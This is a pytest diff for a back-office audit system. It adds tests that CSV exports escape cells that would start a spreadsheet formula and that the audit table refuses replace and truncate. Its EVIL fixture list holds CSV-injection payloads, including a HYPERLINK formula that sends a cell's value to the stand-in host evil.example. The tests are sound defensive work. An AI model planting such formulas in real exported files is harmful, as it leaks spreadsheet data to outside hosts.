@@ -9,9 +9,11 @@ import pytest
 import sqlalchemy as sa
 from flask import Flask
 
+from sync.central.backoffice.audit import Actor, csv_cell, record
 from sync.central.backoffice.models import audit
-from tests.central.conftest import central_of
-from tests.central.officers import add_officer, logged_in, login, post
+from tests.central.conftest import Gateway, central_of
+from tests.central.officers import add_officer, citizen, logged_in, login, post
+from tests.central.test_backoffice_cases import AT
 
 
 def test_admin_reads_and_exports_the_trail(app: Flask) -> None:
@@ -64,3 +66,53 @@ def test_no_route_changes_it_and_the_database_refuses(app: Flask) -> None:
         conn.execute(audit.delete())
     with engine.connect() as conn:
         assert conn.execute(sa.select(audit.c.username)).scalars().all() == ["x-admin"]
+
+
+EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def _cells(body: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(body)) for c in row]
+
+
+def _formulas(body: str) -> list[str]:
+    return [c for c in _cells(body) if c[:1] in ("=", "+", "-", "@")]
+
+
+def test_exported_csv_cells_never_start_a_formula(app: Flask, gateway: Gateway) -> None:
+    """Cells that would start a spreadsheet formula get a leading ' (CSV injection): the audit's and the
+    report's (a complaint's category is the citizen's text)."""
+    engine = central_of(app).engine
+    with engine.begin() as conn:
+        for text in EVIL:
+            record(conn, Actor(text, "-", text), "login-refused", text, 0, None, None)
+    admin = logged_in(app, "admin1", "admin")
+    body = admin.get("/audit.csv").get_data(as_text=True)
+    assert _formulas(body) == [] and "'" + EVIL[0] in _cells(body)
+    gateway.send("submissions", [citizen(i + 1, "complaint", f"DMK-WONOSALAM-261123-{i + 1:04d}0", AT,
+                                         kategori=text) for i, text in enumerate(EVIL)])  # fmt: skip
+    report = logged_in(app, "ppid1", "ppid").get("/laporan.csv?tahun=2026").get_data(as_text=True)
+    assert _formulas(report) == [] and any(c.startswith("'=HYPERLINK") for c in _cells(report))
+    assert [csv_cell(t) for t in EVIL] == ["'" + t for t in EVIL]
+    assert csv_cell(-3) == -3 and csv_cell("Dinas") == "Dinas"
+
+
+def test_replace_and_truncate_cannot_rewrite_the_trail(app: Flask) -> None:
+    add_officer(app, "x-admin", "admin")
+    login(app.test_client(), "x-admin")
+    engine = central_of(app).engine
+    with engine.connect() as conn:
+        (first,) = conn.execute(sa.select(audit.c.id)).scalars().all()
+    if engine.dialect.name == "sqlite":
+        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
+            conn.exec_driver_sql(
+                "INSERT OR REPLACE INTO bo_audit (id, at_ms, username, role, action, target) "
+                f"VALUES ({first}, 0, 'someone-else', 'admin', 'nothing', 'nothing')"
+            )
+    else:
+        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
+            conn.exec_driver_sql("TRUNCATE bo_audit")
+    with engine.connect() as conn:
+        assert conn.execute(sa.select(audit.c.username)).scalars().all() == ["x-admin"]
+    with engine.begin() as conn:  # new rows still go in
+        conn.execute(audit.insert().values(at_ms=1, username="sistem", role="system", action="x", target="y"))
